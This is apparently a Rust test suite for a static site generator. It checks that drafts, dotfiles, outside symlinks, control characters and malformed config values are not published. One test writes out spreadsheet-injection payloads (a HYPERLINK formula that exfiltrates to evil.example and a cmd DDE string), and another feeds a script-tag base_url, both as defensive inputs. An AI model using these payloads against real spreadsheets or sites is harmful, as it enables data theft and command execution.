//! Sources that must not leak or smuggle anything into the published site:
//! editors' backups and dotfiles, symbolic links out of the site, themes outside
//! `themes/`, invisible control characters, bytes that are not UTF-8, and config
//! values (`base_url`, dates) that look right but are not. Each test runs the real
//! binary on a throw-away site and checks the exit status and the exact message.

mod common;

use std::time::{Duration, Instant};

use common::serve::Serve;
use common::{CONFIG, TestSite, front, stderr};

fn brief_site() -> TestSite {
    TestSite::new().brief(
        "alpha",
        "en",
        &front("Alpha", "itb", "2023-05-08"),
        "Alpha opening paragraph.\n",
    )
}

fn assert_has(out: &std::process::Output, line: &str) {
    let err = stderr(out);
    assert!(err.lines().any(|l| l == line), "no line {line:?} in:\n{err}");
}

#[test]
fn editor_backups_are_not_published() {
    let draft = "+++\ntitle = \"Draft\"\ncommittee = \"itb\"\nmeeting = 2023-05-08\n+++\nSECRET DRAFT TEXT\n";
    let site = brief_site()
        .write("content/briefs/alpha.en.md~", draft)
        .write("content/briefs/#alpha.en.md#", draft)
        .write("content/briefs/alpha.en.md.swo", draft)
        .write("content/briefs/alpha.en.md.bak", draft)
        .write("content/Thumbs.db", "x")
        .write("content/images/desktop.ini", "x")
        .write("content/images/map.png", "png");
    let out = site.build_ok();
    // The test config's base_url is an example host, and each backup in
    // content/briefs/ is named (never copied).
    assert!(stderr(&out).contains("with 5 warnings"), "{}", stderr(&out));
    assert_eq!(site.files_under("public/images"), vec!["map.png"]);
    assert!(!site.exists("public/briefs"), "{:?}", site.files_under("public"));
    assert!(!site.exists("public/Thumbs.db"));
    let check = site.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
}

#[test]
fn dotfiles_are_not_published() {
    let draft = "+++\ntitle = \"Draft\"\n+++\nSECRET\n";
    let site = brief_site()
        .write("content/briefs/.#alpha.en.md", draft)
        .write("content/briefs/.alpha.en.md.swp", draft)
        .write("content/.DS_Store", "x")
        .write("content/.git/config", "[remote]")
        .write("content/images/.env", "TOKEN=1")
        .write("themes/mine/static/.env", "TOKEN=1")
        .write("themes/mine/static/extra.css~", "old")
        .write("themes/mine/static/extra.css", "body{}");
    std::fs::write(
        site.path("legbrief.toml"),
        CONFIG.replacen(
            "title = \"Test briefs\"",
            "title = \"Test briefs\"\ntheme = \"mine\"",
            1,
        ),
    )
    .unwrap();
    site.build_ok();
    let published = site.files_under("public");
    let leaked: Vec<&String> = published
        .iter()
        .filter(|p| p.as_str() != ".legbrief-output")
        .filter(|p| p.split('/').any(|part| part.starts_with('.')) || p.ends_with('~'))
        .collect();
    assert!(leaked.is_empty(), "{leaked:?}");
    assert!(site.exists("public/static/extra.css"));
}

#[cfg(unix)]
#[test]
fn symlink_outside_site_is_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "SECRET").unwrap();
    std::fs::create_dir(outside.path().join("folder")).unwrap();
    std::fs::write(outside.path().join("folder/key.txt"), "KEY").unwrap();
    let site = brief_site();
    std::fs::create_dir_all(site.path("content/files")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), site.path("content/files/leak.txt")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("folder"), site.path("content/files/dir")).unwrap();
    std::os::unix::fs::symlink("loop", site.path("content/files/loop")).unwrap();
    std::os::unix::fs::symlink("..", site.path("content/files/up")).unwrap();
    std::os::unix::fs::symlink("missing.txt", site.path("content/files/broken.txt")).unwrap();

    let out = site.build_ok();
    let real = outside.path().canonicalize().unwrap();
    assert_has(
        &out,
        &format!(
            "content/files/leak.txt:1:1: warning: this symbolic link points outside the site (to {}) and is not followed: the file is not published",
            real.join("secret.txt").display()
        ),
    );
    assert_has(
        &out,
        &format!(
            "content/files/dir:1:1: warning: this symbolic link points outside the site (to {}) and is not followed: the folder is not published",
            real.join("folder").display()
        ),
    );
    assert_has(
        &out,
        "content/files/loop:1:1: warning: this symbolic link loops (it leads back to itself or to a folder it is in) and is not followed",
    );
    assert_has(
        &out,
        "content/files/up:1:1: warning: this symbolic link loops (it leads back to itself or to a folder it is in) and is not followed",
    );
    assert_has(
        &out,
        "content/files/broken.txt:1:1: warning: this symbolic link points to nothing and is not copied",
    );
    // And the test config's example base_url.
    assert!(stderr(&out).contains("with 6 warnings"), "{}", stderr(&out));
    assert!(!site.exists("public/files"), "{:?}", site.files_under("public"));

    // `check` reads the same sources and says the same.
    let check = site.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
    assert!(
        stderr(&check).contains("content/files/leak.txt:1:1: warning"),
        "{}",
        stderr(&check)
    );
}

#[cfg(unix)]
#[test]
fn symlink_inside_site_is_copied() {
    let site = brief_site()
        .write("shared/logo.svg", "<svg/>")
        .write("shared/more/a.txt", "A");
    std::fs::create_dir_all(site.path("content/images")).unwrap();
    std::os::unix::fs::symlink("../../shared/logo.svg", site.path("content/images/logo.svg")).unwrap();
    std::os::unix::fs::symlink(site.path("shared/more"), site.path("content/more")).unwrap();
    let out = site.build_ok();
    // The one warning: the test config's base_url is an example host.
    assert!(stderr(&out).contains("with 1 warning"), "{}", stderr(&out));
    assert_eq!(site.read("public/images/logo.svg"), "<svg/>");
    assert_eq!(site.read("public/more/a.txt"), "A");
}

fn site_with_theme(theme: &str) -> TestSite {
    let config = CONFIG.replacen(
        "title = \"Test briefs\"",
        &format!("title = \"Test briefs\"\ntheme = \"{theme}\""),
        1,
    );
    brief_site().write("legbrief.toml", &config)
}

#[test]
fn theme_outside_themes_is_an_error() {
    let site = site_with_theme("../../x").write("themes/ok/static/a.css", "");
    for command in ["build", "check"] {
        let out = site.run(&[command]);
        assert_eq!(out.status.code(), Some(1), "{command}: {}", stderr(&out));
        assert_has(
            &out,
            "legbrief.toml:2:9: error in `theme`: `../../x` is not a theme name",
        );
        assert_has(
            &out,
            "  help: name a folder directly under themes/: letters, digits, `-` and `_`, no `/`, `\\` or `..`, not an absolute path",
        );
    }
    assert!(!site.exists("public"));
}

#[cfg(unix)]
#[test]
fn theme_symlinked_out_of_themes_is_an_error() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(outside.path().join("static")).unwrap();
    std::fs::write(outside.path().join("static/evil.txt"), "EVIL").unwrap();
    let site = site_with_theme("linked");
    std::fs::create_dir_all(site.path("themes")).unwrap();
    std::os::unix::fs::symlink(outside.path(), site.path("themes/linked")).unwrap();
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "legbrief.toml:2:9: error in `theme`: themes/linked/ leads outside the site's themes/ folder",
    );
    assert!(!site.exists("public"));
}

#[test]
fn theme_absolute_path_is_an_error() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(outside.path().join("static")).unwrap();
    let absolute = outside.path().display().to_string();
    let site = site_with_theme(&absolute);
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        &format!("legbrief.toml:2:9: error in `theme`: `{absolute}` is not a theme name"),
    );
    assert!(!site.exists("public"));
}

#[test]
fn control_characters_are_located_errors() {
    let site = TestSite::new()
        .brief(
            "alpha",
            "en",
            "title = \"Alpha\\u000b brief\"\ncommittee = \"itb\"\nmeeting = 2023-05-08\ntopics = [\"smart-living\", \"x\\u0001\"]",
            "First \u{1}paragraph.\n\nSecond\u{7f} with \u{85} and \u{ffff}.\n",
        )
        .brief(
            "beta",
            "en",
            &front("Beta", "itb", "2023-05-08"),
            "Clean, with a tab\there and a form feed\u{c}there.\n",
        );
    for command in ["build", "check"] {
        let out = site.run(&[command]);
        assert_eq!(out.status.code(), Some(1), "{command}: {}", stderr(&out));
        for line in [
            "content/briefs/alpha.en.md:2:15: error in `title`: control character U+000B (vertical tab) in the text",
            "content/briefs/alpha.en.md:5:29: error in `topics[1]`: control character U+0001 in the text",
            "content/briefs/alpha.en.md:7:7: error: control character U+0001 in the text",
            "content/briefs/alpha.en.md:9:7: error: control character U+007F (delete) in the text",
            "content/briefs/alpha.en.md:9:14: error: control character U+0085 (next line) in the text",
            "content/briefs/alpha.en.md:9:20: error: noncharacter U+FFFF in the text",
            "content/briefs/beta.en.md:6:39: error: control character U+000C (form feed) in the text",
            "  help: delete it; it is invisible and not allowed in HTML or XML",
        ] {
            assert_has(&out, line);
        }
        // The topic `x\u0001` is also unknown: every error is reported.
        assert!(stderr(&out).contains("unknown topic"), "{}", stderr(&out));
    }
    assert!(!site.exists("public"));

    // In legbrief.toml, raw or escaped.
    let site = brief_site().write(
        "legbrief.toml",
        &CONFIG.replacen("title = \"Test briefs\"", "title = \"Test\u{1b} briefs\"", 1),
    );
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "legbrief.toml:1:14: error: control character U+001B (escape) in the text",
    );
    let site = brief_site().write(
        "legbrief.toml",
        &CONFIG.replacen("title = \"Test Briefs\"", "title = \"Test\\u0000 Briefs\"", 1),
    );
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "legbrief.toml:8:14: error in `languages.en.title`: control character U+0000 (NUL) in the text",
    );
}

#[test]
fn non_utf8_byte_is_located() {
    let site = brief_site();
    std::fs::write(
        site.path("content/briefs/beta.en.md"),
        b"+++\ntitle = \"Beta\"\ncommittee = \"itb\"\nmeeting = 2023-05-08\n+++\n\nCaf\xe9 au lait.\n",
    )
    .unwrap();
    for command in ["build", "check"] {
        let out = site.run(&[command]);
        assert_eq!(out.status.code(), Some(1), "{command}: {}", stderr(&out));
        assert_has(
            &out,
            "content/briefs/beta.en.md:7:4: error: byte 0xE9 is not UTF-8 text",
        );
        assert_has(
            &out,
            "  help: the file must be saved as UTF-8 (it may have been saved as Big5 or Windows-1252): re-save it with UTF-8 encoding",
        );
    }
    let site = brief_site();
    let mut config = CONFIG.as_bytes().to_vec();
    config.splice(0..0, b"# r\xe9sum\xe9\n".iter().copied());
    std::fs::write(site.path("legbrief.toml"), config).unwrap();
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(&out, "legbrief.toml:1:4: error: byte 0xE9 is not UTF-8 text");
}

#[test]
fn datetime_meeting_says_drop_the_time() {
    let site = TestSite::new().brief(
        "alpha",
        "en",
        "title = \"Alpha\"\ncommittee = \"itb\"\nmeeting = 2023-05-08T10:00:00\nissued = 2023-05-01T09:30:00+08:00\n\n[[papers]]\nbody = \"itb\"\ndate = 10:00:00\ntitle = \"Minutes\"",
        "Text.\n",
    );
    for command in ["build", "check"] {
        let out = site.run(&[command]);
        assert_eq!(out.status.code(), Some(1), "{command}: {}", stderr(&out));
        assert_has(
            &out,
            "content/briefs/alpha.en.md:4:11: error in `meeting`: expected a date such as 2025-05-12, found a date-time (2023-05-08T10:00:00); drop the time",
        );
        assert_has(&out, "  help: write meeting = 2023-05-08");
        assert_has(
            &out,
            "content/briefs/alpha.en.md:5:10: error in `issued`: expected a date such as 2025-05-12, found a date-time (2023-05-01T09:30:00+08:00); drop the time",
        );
        assert_has(
            &out,
            "content/briefs/alpha.en.md:9:8: error in `papers[0].date`: expected a date such as 2025-05-12, found a time (10:00:00); give a date",
        );
    }
    let site = brief_site().write(
        "legbrief.toml",
        &CONFIG.replacen("start = 2022-01-01", "start = 2022-01-01T00:00:00", 1),
    );
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "legbrief.toml:44:9: error in `terms[1].start`: expected a date such as 2025-05-12, found a date-time (2022-01-01T00:00:00); drop the time",
    );
}

#[test]
fn brief_in_no_term_warns_in_build_and_check() {
    let site = brief_site().brief(
        "old",
        "en",
        "title = \"Old\"\ncommittee = \"itb\"\nmeeting = 2015-03-02",
        "Old text.\n",
    );
    for command in ["build", "check"] {
        let out = site.run(&[command]);
        assert_eq!(out.status.code(), Some(0), "{command}: {}", stderr(&out));
        assert_has(
            &out,
            "content/briefs/old.en.md:4:11: warning in `meeting`: meeting 2015-03-02 falls in no term of legbrief.toml",
        );
        assert_has(
            &out,
            "  help: add a [[terms]] entry covering it; until then the brief is on no term page",
        );
        let err = stderr(&out);
        assert!(
            // Both also warn of the test config's example base_url.
            err.contains("with 2 warnings in") || err.ends_with(", 2 warnings\n"),
            "{command}: {err}"
        );
    }
}

#[test]
fn base_url_with_query_fragment_or_space_is_an_error() {
    for (url, problem) in [
        (
            "https://briefs.example.org/?x=1",
            "has a query (`?…`); a base URL cannot have one",
        ),
        (
            "https://briefs.example.org/#top",
            "has a fragment (`#…`); a base URL cannot have one",
        ),
        (
            "https://briefs.example.org/my briefs",
            "contains a space or control character",
        ),
        ("ftp://briefs.example.org", "is not an http(s) URL"),
        ("https:///briefs", "has no host"),
    ] {
        let site = brief_site().write("legbrief.toml", &CONFIG.replacen("https://briefs.example.org", url, 1));
        for command in ["build", "check"] {
            let out = site.run(&[command]);
            assert_eq!(out.status.code(), Some(1), "{url} {command}: {}", stderr(&out));
            assert_has(
                &out,
                &format!("legbrief.toml:2:12: error in `base_url`: `{url}` {problem}"),
            );
        }
    }
    let site = brief_site();
    let out = site.run(&["build", "--base-url", "https://example.org/b?x=1"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "error: --base-url `https://example.org/b?x=1` has a query (`?…`); a base URL cannot have one",
    );
    assert!(!site.exists("public"));
}

#[test]
fn template_error_points_at_template_file() {
    // A syntax error, a rendering error and missing UI strings all name the theme file.
    let site = site_with_theme("mine").write("themes/mine/templates/404.html", "line one\n{{ nosuchvar.x }}\n");
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.lines()
            .any(|l| l.starts_with("themes/mine/templates/404.html:2:4: error: cannot render 404.html:")),
        "{err}"
    );

    let site = site_with_theme("mine").write("themes/mine/templates/404.html", "line one\n{% if %}\n");
    let out = site.run(&["check"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out)
            .lines()
            .any(|l| l.starts_with("themes/mine/templates/404.html:2:") && l.contains("template syntax error")),
        "{}",
        stderr(&out)
    );

    let site = site_with_theme("mine").write("themes/mine/i18n/en.toml", "home = \"Home\"\n");
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out)
            .lines()
            .any(|l| l.starts_with("themes/mine/i18n/en.toml:1:1: error in `") && l.contains("missing UI string")),
        "{}",
        stderr(&out)
    );

    // A missing theme and a language the theme has no strings for point at the config.
    let site = site_with_theme("absent");
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "legbrief.toml:2:9: error in `theme`: theme `absent` not found: no folder themes/absent/",
    );
    let site = brief_site().write(
        "legbrief.toml",
        &CONFIG.replacen(
            "[committees.itb]",
            "[languages.fr]\nname = \"Français\"\ntitle = \"Dossiers\"\nissuer = \"Secrétariat\"\ndate_format = \"%d/%m/%Y\"\n\n[committees.itb]",
            1,
        ),
    );
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "legbrief.toml:19:1: error in `languages.fr`: no UI strings for language `fr`",
    );
}

// ---- dev mode ------------------------------------------------------------------

const TIMEOUT: Duration = Duration::from_secs(90);

impl Serve {
    /// Status and body of a GET.
    fn get(&self, target: &str) -> (u16, String) {
        use std::io::{Read, Write};
        let address = self.url.trim_start_matches("http://").trim_end_matches('/');
        let mut stream = std::net::TcpStream::connect(address).expect("connect");
        stream.set_read_timeout(Some(TIMEOUT)).unwrap();
        write!(
            stream,
            "GET {target} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).unwrap();
        let text = String::from_utf8_lossy(&raw).to_string();
        let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).expect("a status");
        (status, text)
    }

    fn wait_for(&self, what: &str, mut done: impl FnMut(&Serve) -> bool) {
        let started = Instant::now();
        while !done(self) {
            assert!(
                started.elapsed() < TIMEOUT,
                "timed out waiting for {what}:\n{}",
                self.log()
            );
            std::thread::sleep(Duration::from_millis(25));
        }
    }
}

#[test]
fn saving_an_editor_backup_triggers_no_rebuild() {
    let site = brief_site();
    let root = site.root().canonicalize().unwrap();
    let serve = Serve::start(&root, &[]);
    serve.wait_for("the brief page", |s| s.get("/en/briefs/alpha/").0 == 200);

    std::fs::write(root.join("content/briefs/alpha.en.md~"), "backup").unwrap();
    std::fs::write(root.join("content/briefs/.#alpha.en.md"), "lock").unwrap();
    std::fs::write(root.join("content/briefs/.alpha.en.md.swp"), "swap").unwrap();
    // A real edit after them: once it shows, the backups' events have been seen.
    std::fs::write(
        root.join("content/briefs/alpha.en.md"),
        format!("+++\n{}+++\nEdited paragraph.\n", front("Alpha", "itb", "2023-05-08")),
    )
    .unwrap();
    serve.wait_for("the edit", |s| {
        s.get("/en/briefs/alpha/").1.contains("Edited paragraph.")
    });
    let log = serve.log();
    assert!(
        !log.contains("alpha.en.md~") && !log.contains(".swp") && !log.contains(".#"),
        "{log}"
    );
    assert_eq!(serve.get("/briefs/alpha.en.md~").0, 404, "{log}");
}

/// serve re-reads a saved brief on its own path: a brief that is a link out of the
/// site is not read there either.
#[cfg(unix)]
#[test]
fn serve_does_not_follow_a_brief_linked_out_of_the_site() {
    let site = brief_site();
    let root = site.root().canonicalize().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.en.md");
    std::fs::write(
        &secret,
        format!("+++\n{}+++\nSecret paragraph.\n", front("Secret", "itb", "2023-05-08")),
    )
    .unwrap();
    let serve = Serve::start(&root, &[]);
    serve.wait_for("the brief page", |s| s.get("/en/briefs/alpha/").0 == 200);
    std::os::unix::fs::symlink(&secret, root.join("content/briefs/secret.en.md")).unwrap();
    std::fs::write(
        root.join("content/briefs/alpha.en.md"),
        format!("+++\n{}+++\nEdited paragraph.\n", front("Alpha", "itb", "2023-05-08")),
    )
    .unwrap();
    serve.wait_for("the edit", |s| {
        s.get("/en/briefs/alpha/").1.contains("Edited paragraph.")
    });
    let (status, body) = serve.get("/en/briefs/secret/");
    assert!(status == 404 && !body.contains("Secret paragraph."), "{}", serve.log());
}

#[test]
fn drafts_under_other_names_in_briefs_are_warned_and_never_published() {
    let draft =
        "+++\ntitle = \"Draft\"\ncommittee = \"itb\"\nmeeting = 2023-05-08\ndraft = true\n+++\nSECRET DRAFT TEXT\n";
    let names = [
        "secret.en.MD",
        "secret.en.Md",
        "secret.en.mkd",
        "secret.en.mdown",
        "secret.en.markdown",
        "secret.en.txt",
        "secret.en.md.orig",
        "secret.en.md.OLD",
        "secret.en.md.tmp",
        "secret.en.md.rej",
        "secret.en.md.save",
        "secret.en.md.1",
        "secret.en.md.kate-swp",
        "secret.en.md.crswap",
        "secret.en.md.SWP",
        "old/secret.en.md",
    ];
    let mut site = brief_site();
    for name in names {
        site = site.write(&format!("content/briefs/{name}"), draft);
    }
    for command in ["build", "check"] {
        let out = site.run(&[command]);
        assert_eq!(out.status.code(), Some(0), "{command}: {}", stderr(&out));
        for name in names {
            let file = name.rsplit('/').next().unwrap();
            assert_has(
                &out,
                &format!(
                    "content/briefs/{name}:1:1: warning: `{file}` is not a brief (`<slug>.<lang>.md`) and is not published: nothing else in content/briefs/ is copied"
                ),
            );
        }
    }
    let published = site.files_under("public");
    assert!(!published.iter().any(|f| f.contains("secret")), "{published:?}");
    assert!(!site.exists("public/briefs"), "{published:?}");
}

#[test]
fn a_file_name_with_a_line_break_is_printed_on_one_line() {
    let site = brief_site().write(
        "content/briefs/bad\nname.en.md",
        &format!("{}Text.\n", front("T", "itb", "2023-05-08")),
    );
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_has(
        &out,
        "content/briefs/bad\\nname.en.md:1:1: error: `bad\\nname` is not a valid slug: use lowercase ASCII letters, digits and single dashes",
    );
}

#[test]
fn base_url_that_is_not_a_url_is_a_located_error() {
    for (url, problem) in [
        (
            r#"https://\"><script>alert(1)</script>"#,
            r#"`https://"><script>alert(1)</script>` contains a character a URL cannot hold (one of " < > ` { } | \ ^)"#,
        ),
        (
            "https://bad_host!/",
            "`https://bad_host!/` has a host name that is not one (letters, digits, `-` and `.`, or an IP address)",
        ),
    ] {
        let site = brief_site().write("legbrief.toml", &CONFIG.replacen("https://briefs.example.org", url, 1));
        let out = site.run(&["build"]);
        assert_eq!(out.status.code(), Some(1), "{url}: {}", stderr(&out));
        assert_has(&out, &format!("legbrief.toml:2:12: error in `base_url`: {problem}"));
        assert!(!site.exists("public"));
    }
}

#[test]
fn a_footnote_defined_twice_is_a_located_error() {
    let site = brief_site().brief(
        "beta",
        "en",
        &front("Beta", "itb", "2023-05-08"),
        "Text[^1].\n\n[^1]: First.\n\n[^1]: Second.\n",
    );
    let out = site.build();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains(":1: error: footnote `[^1]` is defined a second time here: only one note can be shown"),
        "{err}"
    );
    assert!(err.contains("content/briefs/beta.en.md:"), "{err}");
}

#[test]
fn a_duplicate_topic_id_gives_only_the_duplicate_error() {
    let site = brief_site().brief(
        "beta",
        "en",
        &front("Beta", "itb", "2023-05-08"),
        "## One {#smart-mobility}\n\nText.\n\n## Two {#smart-mobility}\n\nMore.\n",
    );
    let out = site.build();
    let err = stderr(&out);
    assert!(
        err.contains("heading id `smart-mobility` is used twice in this brief"),
        "{err}"
    );
    assert!(!err.contains("is not a topic"), "{err}");
}

#[test]
fn a_bidi_override_in_a_title_is_warned_about() {
    let site = brief_site().brief(
        "beta",
        "en",
        &front("Tolls \u{202E}gnp.exe", "itb", "2023-05-08"),
        "Text.\n",
    );
    let out = site.build_ok();
    let err = stderr(&out);
    assert!(
        err.contains("warning in `title`: the title holds the invisible bidi control U+202E"),
        "{err}"
    );
}

#[test]
fn asset_names_differing_only_in_normalisation_are_warned_about() {
    let site = brief_site()
        .write("content/files/caf\u{e9}.pdf", "a")
        .write("content/files/cafe\u{301}.pdf", "b");
    let out = site.build_ok();
    let err = stderr(&out);
    assert!(
        err.contains("differ only in letter case or Unicode normalisation"),
        "{err}"
    );
}

#[test]
fn papers_csv_cells_are_never_formulas() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed",
    ];
    let mut papers = String::new();
    for title in hostile {
        papers.push_str(&format!(
            "\n[[papers]]\nbody = \"itb\"\ndate = 2023-05-01\ntitle = {}\n",
            toml_string(title)
        ));
    }
    let front = front("Beta", "itb", "2023-05-08");
    let file = format!("+++\n{front}paper_no = \"=1+1\"\n{papers}+++\nText.\n");
    let site = brief_site().write("content/briefs/beta.en.md", &file);
    site.build_ok();
    let csv = site.papers_export("public");
    let mut reader = csv_rows(&csv);
    let header = reader.remove(0);
    let title = header.iter().position(|c| c == "title").unwrap();
    let numbers = header.iter().position(|c| c == "cited_by_paper_no").unwrap();
    for row in &reader {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet runs: {cell:?}"
            );
        }
    }
    for original in hostile {
        assert!(
            reader.iter().any(|row| row[title] == format!("'{original}")),
            "{original:?} not shown as text in {reader:?}"
        );
    }
    assert!(reader.iter().any(|row| row[numbers] == "'=1+1"), "{reader:?}");
}

fn toml_string(s: &str) -> String {
    format!(
        "\"{}\"",
        s.replace('\\', "\\\\").replace('"', "\\\"").replace('\t', "\\t")
    )
}

/// An RFC 4180 reader, as a spreadsheet reads the file: quoted fields, `""` for a
/// quote, CRLF between rows.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}
